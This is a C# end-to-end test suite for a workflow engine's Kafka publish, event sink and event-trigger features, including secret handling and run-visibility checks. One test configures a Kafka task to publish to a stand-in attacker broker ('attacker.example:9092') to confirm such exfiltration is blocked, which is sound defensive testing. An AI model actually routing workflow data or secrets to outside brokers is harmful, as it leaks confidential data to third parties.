using System.Net;
using System.Text.Json.Nodes;
using Baton.EndToEnd.Infrastructure;
using Baton.Testing;

namespace Baton.EndToEnd.Nodes;

/// <summary>
/// Conductor's KAFKA_PUBLISH and EVENT tasks on Baton's producer and event bus, and node workflows' EVENT_TRIGGERs on
/// Baton's own events (a run finished, a secret rotated).
/// </summary>
[Collection(NodeServer.Name)]
public sealed class EventAndKafkaTaskTests(NodeServerFixture fixture)
{
    private readonly BatonClient _admin = fixture.Admin;

    [Fact]
    public async Task Kafka_publish_sends_a_resolved_secret_to_the_configured_broker_and_keeps_only_the_reference()
    {
        var value = $"kafka-secret-{Guid.NewGuid():N}";
        var secret = Defs.Unique("kp").Replace('_', '-');
        (await _admin.SendRawAsync(HttpMethod.Put, $"/api/secrets/{secret}", value, "text/plain")).ShouldBe(HttpStatusCode.OK);
        var topic = Defs.Unique("conductor.kafka");
        var reference = "${workflow.secrets." + secret + "}";
        var run = await _admin.ExecuteAsync(Defs.Workflow(Defs.Unique("kafka_publish"), Defs.Parse($$$$"""
            {"name": "publish", "taskReferenceName": "publish", "type": "KAFKA_PUBLISH",
             "inputParameters": {"kafka_request": {"topic": "{{{{topic}}}}", "key": "k1", "headers": {"X-Trace": "t1"},
               "value": {"token": "{{{{reference}}}}", "n": 1} } } }
            """)));

        Assert.Equal("COMPLETED", run["status"]!.GetValue<string>());
        var (key, message, headers) = Assert.Single(fixture.Kafka.Consume(topic, m => m.Count > 0));
        Assert.Equal("k1", key);
        Assert.Equal("t1", headers["X-Trace"]);
        Assert.Equal(value, JsonNode.Parse(message)!["token"]!.GetValue<string>());
        var stored = (await _admin.GetAsync($"/api/workflow/{run["workflowId"]}")).Text;
        Assert.DoesNotContain(value, stored, StringComparison.Ordinal);
        Assert.Contains($"${{workflow.secrets.{secret}}}", stored, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Kafka_publish_to_brokers_other_than_the_servers_fails_and_sends_nothing()
    {
        var run = await _admin.ExecuteAsync(Defs.Workflow(Defs.Unique("kafka_elsewhere"), Defs.Parse("""
            {"name": "publish", "taskReferenceName": "publish", "type": "KAFKA_PUBLISH",
             "inputParameters": {"kafka_request": {"bootStrapServers": "attacker.example:9092", "topic": "t", "value": "x"}}}
            """)));

        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.Contains("brokers other than the server's", run["tasks"]![0]!["reasonForIncompletion"]!.GetValue<string>(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_event_task_with_an_unknown_sink_is_refused_when_saved_and_a_kafka_sink_publishes()
    {
        var bad = await _admin.PostAsync("/api/metadata/workflow", Defs.Workflow(Defs.Unique("bad_sink"), Defs.Parse("""
            {"name": "e", "taskReferenceName": "e", "type": "EVENT", "sink": "sqs:queue"}
            """)));
        bad.ShouldBe(HttpStatusCode.BadRequest);
        Assert.Contains("$.tasks[0].sink", bad.Text, StringComparison.Ordinal);

        var topic = Defs.Unique("events");
        var run = await _admin.ExecuteAsync(Defs.Workflow(Defs.Unique("event_kafka"), Defs.Parse($$$$"""
            {"name": "e", "taskReferenceName": "e", "type": "EVENT", "sink": "kafka:{{{{topic}}}}", "inputParameters": {"hello": "world"}}
            """)));

        Assert.Equal("COMPLETED", run["status"]!.GetValue<string>());
        Assert.Equal($"kafka:{topic}", run["tasks"]![0]!["outputData"]!["event_produced"]!.GetValue<string>());
        var (_, message, _) = Assert.Single(fixture.Kafka.Consume(topic, m => m.Count > 0));
        Assert.Equal("world", JsonNode.Parse(message)!["hello"]!.GetValue<string>());
        Assert.Equal(run["workflowId"]!.GetValue<string>(), JsonNode.Parse(message)!["workflowInstanceId"]!.GetValue<string>());
    }

    [Fact]
    public async Task Event_triggers_start_node_workflows_when_a_secret_rotates_and_when_a_run_finishes()
    {
        var secret = Defs.Unique("rotating").Replace('_', '-');
        var watched = Defs.Unique("watched");
        var onSecret = Defs.Unique("on_secret");
        var onRun = Defs.Unique("on_run");
        await NodeServerFixture.SaveAsync(_admin, Triggered(onSecret, "SECRET_ROTATED", $".secret == \"{secret}\"", "{{ .outputs.trigger.secret }}"));
        await NodeServerFixture.SaveAsync(_admin, Triggered(onRun, "RUN_FINISHED", $".workflowName == \"{watched}\" and .status == \"COMPLETED\"", "{{ .outputs.trigger.workflowId }}"));

        (await _admin.SendRawAsync(HttpMethod.Put, $"/api/secrets/{secret}", "first-value-123", "text/plain")).ShouldBe(HttpStatusCode.OK);
        var rotated = await WaitForPeerAsync(r => r["path"]!.GetValue<string>() == $"/echo/{onSecret}");
        Assert.Equal(secret, rotated["body"]!["about"]!.GetValue<string>());
        Assert.DoesNotContain("first-value-123", rotated.ToJsonString(), StringComparison.Ordinal);

        var finished = await _admin.ExecuteAsync(Defs.Workflow(watched, Defs.Parse("""{"name": "n", "taskReferenceName": "n", "type": "NOOP"}""")));
        var reported = await WaitForPeerAsync(r => r["path"]!.GetValue<string>() == $"/echo/{onRun}");
        Assert.Equal(finished["workflowId"]!.GetValue<string>(), reported["body"]!["about"]!.GetValue<string>());

        // The triggered runs themselves finishing start nothing (no loop), and only one run each was started.
        await Task.Delay(500);
        Assert.Single(fixture.Peer.Requests, r => r["path"]!.GetValue<string>() == $"/echo/{onRun}");
    }

    [Fact]
    public async Task An_event_trigger_never_tells_its_owner_about_a_run_they_could_not_see()
    {
        var email = $"{Guid.NewGuid().ToString("N")[..10]}@example.test";
        (await _admin.PutAsync($"/api/users/{email}", new JsonObject { ["name"] = "Watcher", ["roles"] = new JsonArray("USER"), ["password"] = "correct horse battery staple" })).ShouldBe(HttpStatusCode.OK);
        using var watcher = new BatonClient(fixture.Server.BaseUrl, new JsonObject { ["email"] = email, ["password"] = "correct horse battery staple" });
        var hidden = Defs.Unique("hidden");
        var spy = Defs.Unique("spy");
        await NodeServerFixture.SaveAsync(watcher, Triggered(spy, "RUN_FINISHED", $".workflowName == \"{hidden}\"", "{{ .outputs.trigger.workflowId }}"));
        var hiddenDef = Defs.Workflow(hidden, Defs.Parse("""{"name": "n", "taskReferenceName": "n", "type": "NOOP"}"""));
        hiddenDef["allowAnyoneToViewRuns"] = false;

        await _admin.ExecuteAsync(hiddenDef);

        await Task.Delay(1000);
        Assert.DoesNotContain(fixture.Peer.Requests, r => r["path"]!.GetValue<string>() == $"/echo/{spy}");
    }

    private JsonObject Triggered(string identifier, string eventType, string condition, string about) => new()
    {
        ["identifier"] = identifier,
        ["nodes"] = new JsonArray(
            new JsonObject
            {
                ["identifier"] = "trigger",
                ["config"] = new JsonObject
                {
                    ["type"] = "EVENT_TRIGGER",
                    ["event"] = new JsonObject { ["type"] = eventType },
                    ["condition"] = new JsonObject { ["type"] = "JQ", ["expressions"] = new JsonArray(condition), ["combinator"] = "and" },
                },
            },
            new JsonObject
            {
                ["identifier"] = "tell",
                ["config"] = new JsonObject { ["type"] = "WEBHOOK", ["url"] = $"{fixture.Peer.BaseUrl}/echo/{identifier}", ["body"] = new JsonObject { ["about"] = about } },
            }),
        ["connections"] = new JsonArray(new JsonObject { ["sourceIdentifier"] = "trigger", ["targetIdentifier"] = "tell" }),
    };

    private async Task<JsonObject> WaitForPeerAsync(Func<JsonObject, bool> match)
    {
        for (var i = 0; i < 300; i++)
        {
            if (fixture.Peer.Requests.FirstOrDefault(match) is { } found) return found;
            await Task.Delay(50);
        }
        throw new Xunit.Sdk.XunitException("the peer never received the expected request");
    }
}
